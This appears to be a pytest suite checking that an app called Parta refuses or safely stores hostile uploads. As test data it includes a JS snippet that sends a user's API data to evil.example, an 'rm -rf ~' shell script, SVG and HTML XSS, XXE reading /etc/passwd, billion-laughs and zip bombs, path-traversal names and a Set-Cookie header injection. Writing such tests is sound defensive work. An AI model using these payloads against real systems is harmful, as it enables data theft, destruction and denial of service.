"""Upload attacks, everywhere Parta takes a file: chat files, avatars, organization logos,
roster and chat-manifest tables (CSV, XLSX) and history exports (issue 10, "Uploads").

Files that lie about their type, SVG with scripts, decompression bombs, zip bombs and
hostile workbooks, hostile names, broken images. Every malicious file is made here at run
time. Each case checks what the uploader sees (status, stable code, a Russian message)
and that nothing was kept: no file row, no blob, no member, no avatar.
"""

from __future__ import annotations

import gzip
import io
import json
import re
import struct
import tracemalloc
import unicodedata
import zipfile
import zlib
from functools import cache
from typing import Any
from urllib.parse import unquote

import httpx
import openpyxl
import pytest
from PIL import Image, ImageFile, WebPImagePlugin
from sqlalchemy import func, select

from parta import media
from parta.db.tables import StoredFile
from parta.errors import PartaError
from parta.migration import roster, tabular
from parta.migration.history.archive import open_zip
from tests.client import Api, Factory, TestUser, error_code
from tests.org_factory import OrgFactory, School
from tests.test_files import EXE, PDF, image_bytes, png_header_only, stored_blobs
from tests.test_history_import import zip_of

# --- Files that lie ----------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/me')</script></body></html>"
JS = b"fetch('/api/v1/me').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t));\n"
XML = b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'
SHELL = b"#!/bin/sh\nrm -rf ~\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + b"\x00" * 16
SVG_NS = b'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
SVGS = {
    "script": b"<svg " + SVG_NS + b"><script>alert(document.domain)</script></svg>",
    "onload": b"<svg " + SVG_NS + b' onload="alert(1)"><rect width="9" height="9"/></svg>',
    "foreignObject": b"<svg "
    + SVG_NS
    + b'><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    + b'<iframe src="javascript:alert(1)"/></body></foreignObject></svg>',
    "external": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg '
    + SVG_NS
    + b'><image xlink:href="https://evil.example/t.png"/><use href="file:///etc/passwd#a"/>'
    + b"<text>&x;</text></svg>",
}
CYRILLIC = re.compile("[а-яё]", re.IGNORECASE)


def refusal(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    """The error of a refused request: its status, its stable code and a Russian message."""
    assert (response.status_code, error_code(response)) == (status, code), response.text
    error: dict[str, Any] = response.json()["error"]
    assert CYRILLIC.search(error["message"]), error["message"]
    return error


async def file_rows(api: Api) -> int:
    async with api.app.state.services.database.session() as db:
        return int(await db.scalar(select(func.count()).select_from(StoredFile)) or 0)


async def nothing_stored(api: Api) -> None:
    assert stored_blobs(api) == []
    assert await file_rows(api) == 0
    tmp = api.settings.media_dir / "tmp"
    assert not tmp.exists() or list(tmp.iterdir()) == []  # no half-written upload left


def files_of(name: str, content: bytes, content_type: str) -> dict[str, Any]:
    return {"file": (name, content, content_type)}


async def post_file(
    api: Api, user: TestUser, url: str, content: bytes, name: str = "photo.png"
) -> httpx.Response:
    method = "POST" if url.endswith("/files") else "PUT"
    return await api.as_(user).request(method, url, files=files_of(name, content, "image/png"))


def assert_served_safely(response: httpx.Response, mime_type: str, disposition: str) -> None:
    assert response.status_code == 200
    assert response.headers["content-type"].split(";")[0] == mime_type
    assert response.headers["x-content-type-options"] == "nosniff"
    policy = response.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'") and "sandbox" in policy and "script-src" not in policy
    assert response.headers["content-disposition"].split(";")[0] == disposition


async def test_files_that_lie_about_their_type_are_kept_as_what_they_are_or_refused(
    api: Api, make: Factory, orgs: OrgFactory
) -> None:
    school = await orgs.school()
    boris = await make.user()
    chat = await make.chat(school.admin, [boris])
    url = f"/api/v1/chats/{chat['id']}/files"
    # Each claims to be a PNG by name and by content type; what it is decides.
    cases = [
        (HTML, "text/plain", "photo.png.txt"),
        (JS, "text/plain", "photo.png.txt"),
        (XML, "text/plain", "photo.png.txt"),
        (SHELL, "text/plain", "photo.png.txt"),
        (SVGS["script"], "text/plain", "photo.png.txt"),
        (PDF, "application/pdf", "photo.png.pdf"),
    ]
    for content, mime_type, name in cases:
        response = await post_file(api, school.admin, url, content)
        assert response.status_code == 201, response.text
        info = response.json()
        assert (info["mime_type"], info["name"]) == (mime_type, name)
        assert "has_thumbnail" not in info and "width" not in info
        await make.message(school.admin, chat["id"], "Посмотри", file_id=info["id"])
        download = await api.as_(boris).get(f"/api/v1/files/{info['id']}")
        # Never rendered on Parta's origin: the real type, no sniffing, saved not shown.
        assert_served_safely(download, mime_type, "attachment")
        assert download.content == content
        thumb = await api.as_(boris).get(f"/api/v1/files/{info['id']}/thumbnail")
        assert (thumb.status_code, error_code(thumb)) == (404, "file_not_found")

    # Executables are refused everywhere, whatever name and type they claim.
    rows, blobs = await file_rows(api), stored_blobs(api)
    svgz = gzip.compress(SVGS["script"], mtime=0)  # SVGZ: a gzip stream
    for target in (url, "/api/v1/me/avatar", f"/api/v1/orgs/{school.id}/logo"):
        for content in (ELF, EXE, MACH_O, svgz):
            refusal(await post_file(api, school.admin, target, content), 415, "file_type_not_allowed")
        refusal(await post_file(api, school.admin, target, EXE, "homework.pdf"), 415, "file_type_not_allowed")
    assert (await file_rows(api), stored_blobs(api)) == (rows, blobs)
    assert "avatar_file_id" not in (await api.as_(school.admin).get("/api/v1/me")).json()


async def test_svg_is_never_an_image_of_parta(api: Api, make: Factory, orgs: OrgFactory) -> None:
    """SVG can carry scripts, so Parta never serves it as image/svg+xml: in a chat it is
    a text document (saved, never shown), as an avatar or a logo it is refused."""
    school = await orgs.school()
    chat = await make.chat(school.admin)
    chat_url = f"/api/v1/chats/{chat['id']}/files"
    for variant, content in SVGS.items():
        for url in ("/api/v1/me/avatar", f"/api/v1/orgs/{school.id}/logo"):
            response = await post_file(api, school.admin, url, content, "logo.svg")
            refusal(response, 415, "file_type_not_allowed")
        response = await post_file(api, school.admin, chat_url, content, "logo.svg")
        assert response.status_code == 201, variant
        info = response.json()
        assert (info["mime_type"], info["name"]) == ("text/plain", "logo.svg.txt"), variant
        download = await api.as_(school.admin).get(f"/api/v1/files/{info['id']}")
        assert_served_safely(download, "text/plain", "attachment")
    assert "avatar_file_id" not in (await api.as_(school.admin).get("/api/v1/me")).json()
    assert "logo_file_id" not in (await api.as_(school.admin).get(f"/api/v1/orgs/{school.id}")).json()
    assert await file_rows(api) == len(SVGS)  # the chat's text documents, nothing else


# --- Decompression bombs -----------------------------------------------------------------


def gif(width: int, height: int, frames: int = 1, frame: tuple[int, int] = (1, 1)) -> bytes:
    """A GIF made byte by byte: a ``width`` x ``height`` screen, ``frames`` frames of one pixel
    (each declaring the size ``frame``). A few bytes a frame."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    one = b"\x21\xf9\x04\x04\x02\x00\x00\x00" + b"\x2c" + struct.pack("<HHHHB", 0, 0, *frame, 0)
    return head + (one + b"\x02\x02\x44\x01\x00") * frames + b"\x3b"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def apng_declaring(frames: int) -> bytes:
    """A real two-frame APNG whose animation control chunk declares ``frames`` frames."""
    out = io.BytesIO()
    first, second = Image.new("RGB", (8, 8), "red"), Image.new("RGB", (8, 8), "blue")
    first.save(out, "PNG", save_all=True, append_images=[second])
    data = out.getvalue()
    at = data.index(b"acTL") - 4
    return data[:at] + png_chunk(b"acTL", struct.pack(">II", frames, 0)) + data[at + 20 :]


def webp_canvas(width: int, height: int) -> bytes:
    """A small animated WebP whose canvas (VP8X) is declared ``width`` x ``height``."""
    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), c) for c in ("red", "blue")]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=50)
    data = bytearray(out.getvalue())
    at = data.index(b"VP8X") + 12
    data[at : at + 6] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(data)


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) declares ``width`` x ``height``."""
    data = bytearray(image_bytes(16, 16, "JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


BOMBS = {
    "PNG of 100,000 x 100,000 in 69 bytes": png_header_only(100_000, 100_000),
    "PNG of 8,000 x 7,000": png_header_only(8000, 7000),
    "GIF screen of 65,535 x 65,535": gif(65535, 65535),
    "GIF screen 1 x 1, first frame 60,000 x 60,000": gif(1, 1, frame=(60000, 60000)),
    "WebP canvas of 16,383 x 16,383": webp_canvas(16383, 16383),
    "WebP canvas of 5,000 x 4,000 (over the WebP limit)": webp_canvas(5000, 4000),
    "JPEG of 65,000 x 65,000": jpeg_declaring(65000, 65000),
    "JPEG of 8,000 x 7,000": jpeg_declaring(8000, 7000),
    "GIF of 1,001 frames of one pixel": gif(4, 4, frames=1001),
    "GIF of 100 frames on a 2,400 x 2,400 screen": gif(2400, 2400, frames=100),
    "APNG declaring a million frames": apng_declaring(1_000_000),
}


@pytest.fixture
def decodes(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The formats of the images whose pixels were decoded, in this process."""
    calls: list[str] = []

    def spy(original: Any) -> Any:
        def load(self: ImageFile.ImageFile) -> Any:
            calls.append(self.format or "?")
            return original(self)

        return load

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy(ImageFile.ImageFile.load))
    monkeypatch.setattr(WebPImagePlugin.WebPImageFile, "load", spy(WebPImagePlugin.WebPImageFile.load))
    return calls


async def test_decompression_bombs_are_refused_before_any_pixel_is_decoded(
    api: Api, make: Factory, orgs: OrgFactory, decodes: list[str]
) -> None:
    school = await orgs.school()
    chat = await make.chat(school.admin)
    chat_url = f"/api/v1/chats/{chat['id']}/files"
    for what, content in BOMBS.items():
        assert len(content) < 40_000, what
        error = refusal(await post_file(api, school.admin, chat_url, content), 400, "image_too_large")
        assert error["field"] == "file"
    some = (
        "PNG of 100,000 x 100,000 in 69 bytes",
        "JPEG of 8,000 x 7,000",
        "GIF of 1,001 frames of one pixel",
    )
    for url in ("/api/v1/me/avatar", f"/api/v1/orgs/{school.id}/logo"):
        for what in some:
            refusal(await post_file(api, school.admin, url, BOMBS[what]), 400, "image_too_large")
    assert decodes == []  # every refusal came from the headers alone
    await nothing_stored(api)
    assert "avatar_file_id" not in (await api.as_(school.admin).get("/api/v1/me")).json()

    # At the limits, not over them: accepted, and only the first frame is decoded.
    long_gif = await post_file(api, school.admin, chat_url, gif(4, 4, frames=media.MAX_FRAMES))
    assert long_gif.status_code == 201 and long_gif.json()["width"] == 4
    assert set(decodes) == {"GIF"}


async def test_broken_images_get_image_invalid_and_never_a_500(api: Api, make: Factory) -> None:
    anna = await make.user()
    chat = await make.chat(anna)
    png = image_bytes(64, 48)
    gif_data = gif(16, 16)
    webp = io.BytesIO()
    Image.new("RGB", (64, 64), "green").save(webp, "WEBP")
    bad_crc = png[:29] + b"\x00\x00\x00\x00" + png[33:]  # the header chunk's checksum zeroed
    cases = {
        "PNG signature, then garbage": b"\x89PNG\r\n\x1a\n" + b"\xde\xad\xbe\xef" * 64,
        "PNG cut in its data": png[: len(png) // 2],
        "PNG with a wrong checksum": bad_crc,
        "GIF cut after its screen": gif_data[:13],
        "GIF with garbage for pixels": gif_data[:20] + b"\xff" * 40,
        "WebP cut in half": webp.getvalue()[: len(webp.getvalue()) // 2],
        "JPEG start, then garbage": b"\xff\xd8\xff\xe0" + b"\x00\x10JFIF" + b"\xfe" * 300,
    }
    for url in (f"/api/v1/chats/{chat['id']}/files", "/api/v1/me/avatar"):
        for what, content in cases.items():
            response = await post_file(api, anna, url, content)
            assert response.status_code < 500, what
            refusal(response, 400, "image_invalid")
    await nothing_stored(api)


# --- Names -------------------------------------------------------------------------------

BOUNDARY = b"parta-attack-boundary"


def raw_form(filename: bytes, content: bytes) -> bytes:
    """A multipart body carrying ``filename`` exactly as given, bytes a client could send."""
    return (
        b"--" + BOUNDARY + b'\r\nContent-Disposition: form-data; name="file"; filename="' + filename
        + b'"\r\nContent-Type: image/png\r\n\r\n' + content + b"\r\n--" + BOUNDARY + b"--\r\n"
    )  # fmt: skip


async def post_raw(api: Api, user: TestUser, chat_id: int, filename: bytes) -> httpx.Response:
    headers = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY.decode()}"}
    body = raw_form(filename, b"hello\n")
    return await api.as_(user).post(f"/api/v1/chats/{chat_id}/files", content=body, headers=headers)


def is_safe_name(name: str) -> bool:
    visible = all(ch == "\u200d" or unicodedata.category(ch) not in ("Cc", "Cf") for ch in name)
    no_path = not set("/\\") & set(name)
    return visible and no_path and 0 < len(name) <= media.MAX_NAME and name.endswith(".txt")


async def test_hostile_file_names_are_cleaned_and_downloads_stay_one_safe_header(
    api: Api, make: Factory
) -> None:
    anna = await make.user()
    chat = await make.chat(anna)
    cases: list[tuple[bytes, str | None]] = [
        (("я" * 2000 + ".txt").encode(), "я" * 251 + ".txt"),
        (b"a\x00b.txt", "ab.txt"),
        (b"\x01\x1b[31mred\x07\x7f.txt", "[31mred.txt"),
        ("фото\u202etxt.exe".encode(), "фотоtxt.exe.txt"),
        (b"../../etc/passwd", "passwd.txt"),
        (b"..\\..\\Windows\\win.ini", "win.ini.txt"),
        (b"C:\\x\\y", "y.txt"),
        (b"....", "файл.txt"),
        (b" . ", "файл.txt"),
        ("👩\u200d🏫 урок 📚.txt".encode(), "👩\u200d🏫 урок 📚.txt"),
        (b'a";x=".txt', None),  # a quote cannot end the parameter early
        (b"a.txt\r\nSet-Cookie: session=stolen", None),  # a line break cannot add a header
        (b"\xff\xfe.txt", None),  # not UTF-8
    ]
    for raw, expected in cases:
        response = await post_raw(api, anna, chat["id"], raw)
        assert response.status_code == 201, (raw, response.text)
        name = response.json()["name"]
        assert is_safe_name(name), (raw, name)
        assert expected is None or name == expected, (raw, name)
        download = await api.as_(anna).get(f"/api/v1/files/{response.json()['id']}")
        assert "set-cookie" not in download.headers
        disposition = download.headers["content-disposition"]
        kind, fallback, extended = (part.strip() for part in disposition.split(";"))
        assert kind == "attachment" and fallback.isascii() and fallback.isprintable()
        assert fallback.count('"') == 2 and unquote(extended.removeprefix("filename*=UTF-8''")) == name
    # Names are labels: the bytes live under their SHA-256, inside the media folder only.
    media_dir = api.settings.media_dir
    for path in api.data_dir.rglob("*"):
        assert path.name not in ("passwd", "win.ini", "y"), path
    for blob in stored_blobs(api):
        assert re.fullmatch(r"[0-9a-f]{64}", blob.name) and blob.is_relative_to(media_dir)

    # A name of thousands of characters (no file system has one) overflows the form's
    # 4 KB part header: refused as a broken form, in Russian, and nothing is kept.
    blobs = stored_blobs(api)
    refusal(await post_raw(api, anna, chat["id"], ("я" * 5000 + ".txt").encode()), 400, "invalid_request")
    assert stored_blobs(api) == blobs and await file_rows(api) == len(cases)


# --- Tables: XLSX rosters and chat manifests ---------------------------------------------

MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER = b"".join(
    f'<c t="inlineStr"><is><t>{title}</t></is></c>'.encode() for title in ("ФИО", "Роль", "Класс", "Телефон")
)
PERSON = '<c t="inlineStr"><is><t>Иванов Иван</t></is></c><c t="inlineStr"><is><t>ученик</t></is></c>'
PERSON += '<c t="inlineStr"><is><t>5А</t></is></c><c><v>79165550101</v></c>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(8)).encode()
    + b"]>"
)


def workbook(
    rows: bytes = b'<row r="1">' + HEADER + b'</row><row r="2">' + PERSON.encode() + b"</row>",
    *,
    shared: bytes | None = None,
    prolog: bytes = b"",
    extra: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """An XLSX file made part by part, as Excel lays it out; openpyxl reads it too."""
    sheet = prolog + b'<worksheet xmlns="' + MAIN_NS + b'"><sheetData>' + rows + b"</sheetData></worksheet>"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    rel = '<Relationship Id="{}" Type="http://schemas.openxmlformats.org/{}" Target="{}"/>'
    relationships = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    parts = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": relationships.format(
            rel.format("rId1", "officeDocument/2006/relationships/officeDocument", "xl/workbook.xml")
        ).encode(),
        "xl/workbook.xml": b'<workbook xmlns="' + MAIN_NS + b'" xmlns:r="' + REL_NS + b'"><sheets>'
        b'<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relationships.format(
            rel.format("rId1", "officeDocument/2006/relationships/worksheet", "worksheets/sheet1.xml")
            + rel.format("rId2", "officeDocument/2006/relationships/sharedStrings", "/xl/sharedStrings.xml")
        ).encode(),
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": b'<sst xmlns="' + MAIN_NS + b'">' + (shared or b"") + b"</sst>",
    } | (extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def encrypted(data: bytes, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    """The zip with entry ``name`` marked as encrypted (traditional PKWARE) in its local
    and central headers; zipfile cannot write encrypted entries itself."""
    out = bytearray(data)
    for signature, flag_at, length_at, name_at in ((b"PK\x03\x04", 6, 26, 30), (b"PK\x01\x02", 8, 28, 46)):
        at = out.find(signature)
        while at >= 0:
            length = struct.unpack_from("<H", out, at + length_at)[0]
            if out[at + name_at : at + name_at + length] == name.encode():
                out[at + flag_at] |= 0x1
            at = out.find(signature, at + 4)
    return bytes(out)


@cache
def hostile_workbooks() -> dict[str, tuple[bytes, int, str]]:
    """What each hostile table is, its bytes, and the answer (status, code) it must get."""
    blank_rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (i, i) for i in range(2, 3002))
    just_under = b"\x00" * (tabular.XLSX_RATIO_FROM - 1)  # too small for the ratio check
    return {
        "a sheet unpacking to 20 MB from 20 KB": (
            workbook(b'<row r="1">' + HEADER + b"</row>" + b" " * (20 * 1024 * 1024)),
            400,
            "archive_bomb",
        ),
        "33 MB unpacked in parts under 1 MB": (
            workbook(extra={f"xl/media/pad{i}.bin": just_under for i in range(33)}),
            413,
            "archive_too_large",
        ),
        "200,000 shared strings from 12 KB": (
            workbook(shared=b"<si><t>a</t></si>" * 200_000),
            400,
            "archive_bomb",
        ),
        "1,001 parts": (
            workbook(extra={f"xl/p{i}.xml": b"<a/>" for i in range(1001)}),
            400,
            "archive_too_many_files",
        ),
        **{
            f"a part named {name}": (workbook(extra={name: b"<a/>"}), 400, "archive_unsafe_path")
            for name in ("../../evil.xml", "/etc/cron.d/x", "C:\\evil.xml", "xl\\..\\..\\evil.xml")
        },
        "a password-protected part": (encrypted(workbook()), 400, "invalid_request"),
        "billion laughs in the sheet": (workbook(prolog=LAUGHS), 400, "invalid_request"),
        "an external entity in the sheet": (
            workbook(
                b'<row r="1">' + HEADER + b'</row><row r="2"><c t="inlineStr"><is><t>&x;</t></is></c></row>',
                prolog=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            ),
            400,
            "invalid_request",
        ),
        "3,000 rows of empty formatted cells": (
            workbook(b'<row r="1">' + HEADER + b"</row>" + blank_rows),
            400,
            "invalid_request",
        ),
        "a cell of 40,000 characters": (
            workbook(
                b'<row r="1">'
                + HEADER
                + b'</row><row r="2"><c t="str"><v>'
                + b"x" * 40_000
                + b"</v></c></row>"
            ),
            400,
            "invalid_request",
        ),
        "a sheet that is not XML": (workbook(b"<row r='1'><c></row>"), 400, "invalid_request"),
        "a zip with no workbook in it": (zip_of({"word/document.xml": b"<a/>"}), 400, "invalid_request"),
        "a PNG named roster.xlsx": (image_bytes(8, 8), 400, "invalid_request"),
        "an Excel 97 (XLS) file": (tabular.OLE2_MAGIC + b"\x00" * 4000, 400, "invalid_request"),
    }


async def upload_table(api: Api, school: School, data: bytes, route: str = "roster") -> httpx.Response:
    files = {"file": ("roster.xlsx", data, "application/octet-stream")}
    return await api.as_(school.admin).post(f"/api/v1/orgs/{school.id}/{route}", files=files)


async def test_hostile_workbooks_are_refused_and_nothing_is_imported(
    api: Api, orgs: OrgFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The element budget is lowered so a sheet that exceeds it is cheap to make here;
    # test_hostile_workbooks_cost_little_memory reads one at the real limits.
    monkeypatch.setattr(tabular, "MAX_XML_ELEMENTS", 5000)
    school = await orgs.school()
    for what, (data, status, code) in hostile_workbooks().items():
        assert len(data) <= tabular.MAX_FILE_BYTES, what
        error = refusal(await upload_table(api, school, data), status, code)
        assert status == 413 or error["field"] == "file", what
    some = (
        "a sheet unpacking to 20 MB from 20 KB",
        "billion laughs in the sheet",
        "a part named ../../evil.xml",
    )
    for what in some:
        data, status, code = hostile_workbooks()[what]
        refusal(await upload_table(api, school, data, "chat-manifests"), status, code)

    members = (await api.as_(school.admin).get(f"/api/v1/orgs/{school.id}/members")).json()["members"]
    assert [m["user_id"] for m in members] == [school.admin.id]
    assert (await api.as_(school.admin).get(f"/api/v1/orgs/{school.id}/classes")).json()["classes"] == []
    migrated = await api.as_(school.admin).get(f"/api/v1/orgs/{school.id}/migrated-chats")
    assert migrated.json()["chats"] == []

    # The same reader takes an honest workbook, even one whose person is far down the
    # sheet (openpyxl filled the gap with empty rows, and 5,000 of them used to end the read).
    far_down = workbook(b'<row r="1">' + HEADER + b'</row><row r="7000">' + PERSON.encode() + b"</row>")
    response = await upload_table(api, school, far_down)
    assert response.status_code == 200, response.text
    assert response.json()["summary"]["pending"] == 1


def test_the_xlsx_reader_reads_what_excel_writes() -> None:
    """Shared strings (rich text, reading hints), inline strings, numbers typed as phones,
    formula results, cells without references or out of order, columns past the 32nd."""
    shared = (
        "<si><t>ФИО</t></si><si><t>Роль</t></si><si><t> Телефон </t></si>"
        '<si><r><rPr><b/></rPr><t>Петров</t></r><r><t xml:space="preserve"> Олег</t></r>'
        "<rPh><t>ペトロフ</t></rPh></si><si><t>ученик</t></si><si><t>не нужна</t></si>"
    )
    rows = (
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
        '<c r="C1" t="s"><v>2</v></c></row>'
        '<row r="3"><c r="C3"><v>7.9165550301E10</v></c><c r="A3" t="s"><v>3</v></c>'
        '<c t="s"><v>4</v></c><c r="AZ3" t="s"><v>5</v></c></row>'
        '<row><c t="str"><f>CONCAT("Ким"," Анна")</f><v>Ким Анна</v></c>'
        '<c t="inlineStr"><is><t>учитель</t></is></c><c><v>89165550302</v></c><c><v>1.5</v></c>'
        '<c t="b"><v>1</v></c></row>'
        '<row r="6"><c r="A6" s="3"/><c r="B6" t="inlineStr"><is><t>   </t></is></c></row>'
    )
    names = {"фио": "name", "роль": "role", "телефон": "phone"}
    found = tabular.read_table(workbook(rows.encode(), shared=shared.encode()), names, {"name": "ФИО"})
    assert found == [
        (3, {"name": "Петров Олег", "role": "ученик", "phone": "79165550301"}),
        (4, {"name": "Ким Анна", "role": "учитель", "phone": "89165550302"}),
    ]
    # A sheet written by openpyxl (inline strings) reads as openpyxl itself reads it.
    book = openpyxl.Workbook()
    book.active.append(["ФИО", "Роль", "Телефон", "Заметка"])
    book.active.append(["  Белкина Анна ", "родитель", 79165551502, 2.5])
    book.active.append([None, None, None, None])
    book.active.append(["Орлов Максим", "teacher", "+7 916 555-03-03", "x" * 300])
    saved = io.BytesIO()
    book.save(saved)
    assert tabular.read_table(saved.getvalue(), names | {"заметка": "note"}, {"name": "ФИО"}) == [
        (2, {"name": "Белкина Анна", "role": "родитель", "phone": "79165551502", "note": "2.5"}),
        (4, {"name": "Орлов Максим", "role": "teacher", "phone": "+7 916 555-03-03", "note": "x" * 300}),
    ]


def single_row_of_empty_cells(count: int, compression: int) -> bytes:
    """The shape that cost openpyxl 5 GB and four minutes: one row of very many cells."""
    rows = b'<row r="1">' + HEADER + b'</row><row r="2">' + b"<c/>" * count + b"</row>"
    return workbook(rows, compression=compression)


def shared_string_after(others: int) -> bytes:
    rows = b'<row r="1">' + HEADER + b'</row><row r="2"><c t="s"><v>999999999</v></c></row>'
    return workbook(rows, shared=b"<si><t>a</t></si>" * others, compression=zipfile.ZIP_STORED)


def test_hostile_workbooks_are_read_in_little_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    """What the reader holds does not grow with what a file declares. The element budget
    is lowered so the stored cases stay quick: nothing of a cell past the 32nd column or
    of an unwanted shared string is kept, so the memory is the same at any budget."""
    monkeypatch.setattr(tabular, "MAX_XML_ELEMENTS", 20_000)
    cases = {
        "one row of 2 million empty cells in 25 KB": (
            single_row_of_empty_cells(2_000_000, zipfile.ZIP_DEFLATED),
            "archive_bomb",
        ),
        # Stored without compression, so no ratio gives them away: the element budget does.
        "one row of 30,000 empty cells, stored": (
            single_row_of_empty_cells(30_000, zipfile.ZIP_STORED),
            "invalid_request",
        ),
        "a cell naming a shared string after 15,000 others": (shared_string_after(15_000), "invalid_request"),
    }
    for what, (content, code) in cases.items():
        tracemalloc.start()
        try:
            with pytest.raises(PartaError) as refused:
                roster.read_roster(content)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert str(refused.value.instance_code) == code, (what, refused.value.message)
        assert peak < 4 * 1024 * 1024, f"{what}: {peak / 1024 / 1024:.1f} MB"


# --- History exports ---------------------------------------------------------------------


async def test_hostile_attachments_of_an_export_are_skipped_and_none_of_them_is_kept(
    api: Api, orgs: OrgFactory
) -> None:
    school = await orgs.school()
    files = {
        "files/photo.jpg": ELF,
        "files/bomb.png": png_header_only(100_000, 100_000),
        "files/broken.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
        "files/frames.gif": gif(4, 4, frames=2000),
        "files/diagram\u202egnp.svg": SVGS["script"],
        "files/ok.png": image_bytes(40, 30),
    }
    messages = [
        {"id": f"m{i}", "author": {"name": "Учитель"}, "sent_at": f"2023-10-0{i + 1}T10:00:00+03:00",
         "text": f"Файл {i}", "attachments": [path]}
        for i, path in enumerate(files)
    ]  # fmt: skip
    chat = {"title": "Архив", "legacy_id": "archive-1"}
    document = {"format": "parta.history.v1", "chat": chat, "messages": messages}
    export = zip_of({"history.json": json.dumps(document, ensure_ascii=False).encode()} | files)
    response = await api.as_(school.admin).post(
        f"/api/v1/orgs/{school.id}/history-imports",
        files={"file": ("export.zip", export, "application/zip")},
        data={"new_chat_title": "Архив"},
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["summary"]["imported"] == len(files)
    assert (body["summary"]["attachments_stored"], body["summary"]["attachments_skipped"]) == (2, 4)
    url = f"/api/v1/chats/{body['chat_id']}/messages"
    history = await api.as_(school.admin).get(url, params={"limit": 50})
    by_text = {m["text"].split("\n")[0]: m for m in history.json()["messages"]}
    for i in range(4):
        assert "file" not in by_text[f"Файл {i}"] and "не перенесён" in by_text[f"Файл {i}"]["text"]
    svg, png = by_text["Файл 4"]["file"], by_text["Файл 5"]["file"]
    assert (svg["mime_type"], svg["name"]) == ("text/plain", "diagramgnp.svg.txt")
    assert png["mime_type"] == "image/png" and png["has_thumbnail"]
    # The SVG text, the PNG and its thumbnail: nothing of the refused files.
    assert len(stored_blobs(api)) == 3 and await file_rows(api) == 2


def test_encrypted_entries_and_backslash_paths_in_exports_are_refused() -> None:
    limits = {"max_entries": 100, "max_unpacked": 1024 * 1024}
    cases = {
        "..\\..\\evil.json": "archive_unsafe_path",
        "ChatExport\\..\\..\\evil.json": "archive_unsafe_path",
    }
    for name, code in cases.items():
        with pytest.raises(PartaError) as refused:
            open_zip(io.BytesIO(zip_of({"result.json": b"{}", name: b"{}"})), **limits)
        assert str(refused.value.instance_code) == code, name
    with pytest.raises(PartaError) as refused:
        open_zip(io.BytesIO(encrypted(workbook())), **limits)
    assert str(refused.value.instance_code) == "archive_invalid"
